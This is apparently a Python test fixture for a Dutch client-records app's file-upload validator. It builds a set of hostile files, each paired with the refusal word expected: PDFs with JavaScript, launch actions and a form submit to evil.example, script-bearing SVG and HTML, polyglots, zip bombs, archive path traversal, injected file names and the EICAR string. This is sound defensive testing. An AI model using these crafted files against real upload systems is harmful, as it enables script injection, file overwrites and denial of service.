"""A corpus of hostile files, made here so that nothing dangerous lies in the repository: (name, content, word in refusal)."""

import io
import struct
import zlib

import pikepdf
from PIL import Image

from clienten.tests.kantoorbestanden import MS, archief, docx, odt, rel, xlsx

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"


def pdf(bewerk=None, **bewaar):
    document = pikepdf.new()
    document.add_blank_page()
    if bewerk:
        bewerk(document)
    uit = io.BytesIO()
    document.save(uit, **bewaar)
    return uit.getvalue()


def actie(soort, **meer):
    def bewerk(document):
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/" + soort), **meer)

    return bewerk


def ingesloten(document):
    document.attachments["geheim.exe"] = b"MZ programma"


def diep_script(document):
    """Hidden in an annotation, behind a reference, in an object stream."""
    doel = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    document.pages[0].Annots = document.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=doel)])
    )


def formulier(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def foto(formaat="PNG", maat=(40, 30), **bewaar):
    uit = io.BytesIO()
    Image.new("RGB", maat, "teal").save(uit, formaat, **bewaar)
    return uit.getvalue()


def reuzefoto(breed=50_000, hoog=50_000):
    """A PNG of a few hundred bytes that claims 2.5 billion pixels."""

    def blok(soort, data):
        return struct.pack(">I", len(data)) + soort + data + struct.pack(">I", zlib.crc32(soort + data))

    kop = struct.pack(">IIBBBBB", breed, hoog, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + blok(b"IHDR", kop) + blok(b"IDAT", zlib.compress(b"\0" * 999)) + blok(b"IEND", b"")


def liegende_zip():
    """Says it unpacks to a few bytes and unpacks to 80 MB."""
    ruw = bytearray(docx(delen={"word/media/x.bin": b"\0" * 80_000_000}))
    echt = struct.pack("<I", 80_000_000)
    while (plek := ruw.find(echt)) >= 0:
        ruw[plek : plek + 4] = struct.pack("<I", 10)
    return bytes(ruw)


def versleutelde_zip():
    ruw = bytearray(docx())
    plek = ruw.find(b"PK\x01\x02")
    ruw[plek + 8] |= 1
    return bytes(ruw)


VBA = {"word/vbaProject.bin": b"\xd0\xcf"}
VBATYPE = {"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>fetch('/clienten/')</script>"
GOED = {
    "cv.pdf": pdf(),
    "foto.jpg": foto("JPEG"),
    "foto.JPEG": foto("JPEG"),
    "foto.png": foto(),
    "brief.docx": docx(),
    "lijst.xlsx": xlsx(),
    "brief.odt": odt(),
    "nota.txt": "Een gewone nota, met é en €.".encode(),
    "attest v2.1 (kopie).pdf": pdf(),
    "mail jan@firma.com.pdf": pdf(),
    "alleen rechten.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="b")),
    "regel ervoor.pdf": b"\r\n" + pdf(),
    "opmerking erna.pdf": pdf() + b"\n% gemaakt door een scanner\n",
}
VIJANDIG = [
    ("leeg.pdf", b"", "leeg"),
    ("groot.txt", b"a" * (10 * 1024 * 1024 + 1), "hooguit 10 MB"),
    ("tekening.svg", SVG, "bewaren we niet"),
    ("tekening.png", SVG, "geen png"),
    ("tekening.txt", SVG, "webpagina"),
    ("pagina.html", HTML, "bewaren we niet"),
    ("pagina.txt", b"\xef\xbb\xbf  <HTML><body onload=x>", "webpagina"),
    ("pagina.pdf", HTML, "geen pdf"),
    ("pagina.docx", HTML, "geen Word"),
    ("polyglot.pdf", HTML + pdf(), "pdf"),
    ("polyglot2.pdf", pdf() + archief({"x.html": HTML}), "verstopt"),
    ("polyglot3.pdf", pdf() + b"\n<script>alert(1)</script>", "verstopt"),
    ("polyglot4.pdf", pdf().replace(b"%PDF-1.", b"%PDF-1.<script>alert(1)</script>", 1), "pdf"),
    ("polyglot.png", foto() + archief({"x.exe": b"MZ"}), "verstopt"),
    ("polyglot.jpg", b"GIF89a" + HTML, "geen jpg"),
    ("script.pdf", pdf(actie("JavaScript", JS="app.alert(1)")), "een script"),
    ("diep.pdf", pdf(diep_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "een script"),
    ("start.pdf", pdf(actie("Launch", F="calc.exe")), "programma"),
    ("stuur.pdf", pdf(actie("SubmitForm", F="http://evil.example")), "versturen"),
    ("ander.pdf", pdf(actie("GoToE")), "ander bestand"),
    ("bijlage.pdf", pdf(ingesloten), "ander bestand"),
    ("xfa.pdf", pdf(formulier), "formulier"),
    ("slot.pdf", pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "wachtwoord"),
    ("kapot.pdf", pdf()[:200] + b"%%EOF", "beschadigd"),
    ("onzin.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", "beschadigd"),
    ("reus.png", reuzefoto(), "te groot"),
    ("breed.png", reuzefoto(8_000, 7_999), "te groot"),
    ("kapot.jpg", foto("JPEG", (400, 400))[:300], "beschadigd"),
    ("programma.jpg", b"MZ\x90\x00" + b"\0" * 400, "geen jpg"),
    ("macro.docx", docx(links=[rel("vbaProject", "vbaProject.bin", basis=MS)], delen=VBA, soorten=VBATYPE), "macro"),
    ("macro.xlsx", xlsx(links=[rel("xlMacrosheet", "m.xml", basis=MS)], delen={"xl/m.xml": "<x/>"}), "macro"),
    (
        "macro2.docx",
        docx(soorten={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macro",
    ),
    ("macro.odt", odt(delen={"Basic/Standard/Module1.xml": b"Sub Main"}), "macro"),
    ("macro.docm", docx(), "bewaren we niet"),
    ("bom.docx", docx(delen={"word/media/x.bin": b"\0" * 80_000_000}), "te groot"),
    ("liegt.docx", liegende_zip(), ""),
    ("veel.docx", docx(delen={f"x/{n}": b"" for n in range(3_000)}), "te groot"),
    ("omhoog.docx", docx(delen={"../../etc/cron.d/x": b"x"}), "gewoon programma"),
    ("slot.docx", versleutelde_zip(), "wachtwoord"),
    ("oud.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "wachtwoord"),
    ("oud.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "bewaren we niet"),
    ("zip.xlsx", archief({"hallo.txt": b"x"}), "geen Excel"),
    ("kapot.docx", docx()[:-30], "beschadigd"),
    ("cv.exe.pdf", pdf(), "twee extensies"),
    ("cv.pdf.exe", b"MZ", "bewaren we niet"),
    ("cv.js.jpg", foto("JPEG"), "twee extensies"),
    ("zonder", pdf(), "bewaren we niet"),
    ("../../settings.pdf", pdf(), "tekens"),
    ("C:\\x\\cv.pdf", pdf(), "tekens"),
    ("cv\x00.pdf", pdf(), "tekens"),
    ("cv\r\nSet-Cookie: x.pdf", pdf(), "tekens"),
    ("cv\u202efdp.pdf", pdf(), "tekens"),
    ("virus.txt", EICAR, "virus"),
    ("virus.docx", docx(delen={"word/media/x.txt": EICAR}), "virus"),
    ("binair.txt", bytes(range(32)), "geen gewone tekst"),
]
